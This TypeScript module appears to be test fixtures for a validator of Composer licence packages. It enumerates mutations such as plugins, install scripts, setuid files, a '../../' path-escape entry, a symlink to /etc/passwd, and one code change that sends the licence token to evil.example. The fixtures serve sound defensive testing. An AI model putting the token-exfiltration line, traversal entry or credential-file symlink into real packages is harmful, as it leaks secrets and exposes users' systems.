import { both, foreignToken, onCode, tokenChanges, withFile, withManyFiles } from './files-plan.js';
import type { LicenseZipPlan } from './license-zip-plan.js';

/** Names of what can be wrong with a licence package for Composer; `code-reformatted` and `revoked-token` are not wrong. */
export type LicenseZipMistake = keyof typeof licenseZipChanges;

/** One way in which a licence package for Composer is not as it should be. */
export interface LicenseZipMistakeInfo {
  readonly name: LicenseZipMistake;
  readonly about: string;
}

type Change = (plan: LicenseZipPlan) => LicenseZipPlan;

/** What each mistake does; everything but that one thing stays right. */
export const licenseZipChanges = {
  plugin: {
    about: 'a Composer plugin: its code runs in Composer itself',
    change: both(
      withManifest({
        type: 'composer-plugin',
        require: { 'composer-plugin-api': '^2.0' },
        extra: { class: 'Acme\\Pro\\Plugin' },
      }),
      withFile('src/Plugin.php', '<?php\nnamespace Acme\\Pro;\nclass Plugin {}\n'),
    ),
  },
  'plugin-type': { about: 'the type of a plugin, and no plugin', change: withManifest({ type: 'composer-plugin' }) },
  'other-type': {
    about: 'a type that an installer of somebody’s handles',
    change: withManifest({ type: 'acme-module' }),
  },
  scripts: { about: 'scripts in composer.json', change: withManifest({ scripts: { 'post-install-cmd': 'echo ran' } }) },
  'autoload-files': {
    about: 'a file that every request runs (autoload.files)',
    change: both(withAutoload({ files: ['src/boot.php'] }), withFile('src/boot.php', '<?php\n')),
  },
  'autoload-other': {
    about: 'takes over another vendor’s namespace',
    change: withAutoload({ 'psr-4': { 'Other\\': 'src/' } }),
  },
  bin: {
    about: 'a program',
    change: both(withManifest({ bin: ['bin/pro'] }), withFile('bin/pro', '#!/usr/bin/env php\n')),
  },
  dependency: { about: 'a dependency', change: withManifest({ require: { 'other/tool': '^1.0' } }) },
  replace: { about: 'replaces another package', change: withManifest({ replace: { 'other/tool': '*' } }) },
  provide: { about: 'provides another package', change: withManifest({ provide: { 'other/tool': '*' } }) },
  'extra-file': { about: 'a file that no profile expects', change: withFile('notes.txt', 'hello\n') },
  'hidden-file': { about: 'a file whose name begins with a dot', change: withFile('.htaccess', 'Allow from all\n') },
  'other-code': { about: 'a second file of code', change: withFile('src/More.php', '<?php\n') },
  'case-twin': { about: 'a file whose name differs only in case', change: withFile('License.txt', 'hello\n') },
  'many-files': { about: 'two thousand files', change: withManyFiles('data') },
  symlink: {
    about: 'a symbolic link',
    change: withEntry({ name: 'link.txt', mode: 0o120777, content: 'license.txt' }),
  },
  'symlink-outside': {
    about: 'a symbolic link that leaves the package',
    change: withEntry({ name: 'link.txt', mode: 0o120777, content: '/etc/passwd' }),
  },
  'duplicate-entry': { about: 'license.txt twice', change: withSecondLicense },
  'path-escape': {
    about: 'an entry that leads out of the package',
    change: withEntry({ name: '../../escape.php', content: '<?php\n' }),
  },
  setuid: {
    about: 'a file with the set-user-id bit',
    change: withEntry({ name: 'setuid.txt', mode: 0o104755, content: '1\n' }),
  },
  'code-calls-home': {
    about: 'code that sends the token away',
    change: onCode((code) => `${code}file_get_contents('http://evil.example/?' . License::token());\n`),
  },
  'code-own-token': {
    about: 'code that returns a token of its own, whatever license.txt says',
    change: onCode((code) =>
      code.replace("trim(file_get_contents(__DIR__ . '/../license.txt'))", "'a token of its own'"),
    ),
  },
  'code-reformatted': {
    about: 'the same code with other white space and comments: harmless',
    change: onCode(
      (code) =>
        `${code.replaceAll('    ', '\t').replace('/** The licence token. */', '// The token.')}\n# end of file\n`,
    ),
  },
  ...tokenChanges,
  'other-name': { about: 'composer.json names another package', change: withManifest({ name: 'acme/pr0' }) },
  'other-version': { about: 'composer.json names another version', change: withManifest({ version: '9.9.9' }) },
  'required-php': { about: 'for a PHP that does not exist', change: withManifest({ require: { php: '>=99' } }) },
} as const satisfies Readonly<Record<string, { readonly about: string; readonly change: Change }>>;

/** Everything that can be wrong with a licence package for Composer, each by name, for `test.each`. */
export const licenseZipMistakes: readonly LicenseZipMistakeInfo[] = Object.entries(licenseZipChanges).map(
  ([name, { about }]) => ({ name: name as LicenseZipMistake, about }),
);

function withManifest(fields: Readonly<Record<string, unknown>>): Change {
  return (plan) => ({ ...plan, manifest: { ...plan.manifest, ...fields } });
}

function withAutoload(more: Readonly<Record<string, unknown>>): Change {
  return (plan) => {
    const { autoload } = plan.manifest as { readonly autoload: object };
    return withManifest({ autoload: { ...autoload, ...more } })(plan);
  };
}

function withEntry(entry: LicenseZipPlan['entries'][number]): Change {
  return (plan) => ({ ...plan, entries: [...plan.entries, entry] });
}

function withSecondLicense(plan: LicenseZipPlan): LicenseZipPlan {
  return withEntry({ name: 'license.txt', content: `${foreignToken()}\n` })(plan);
}
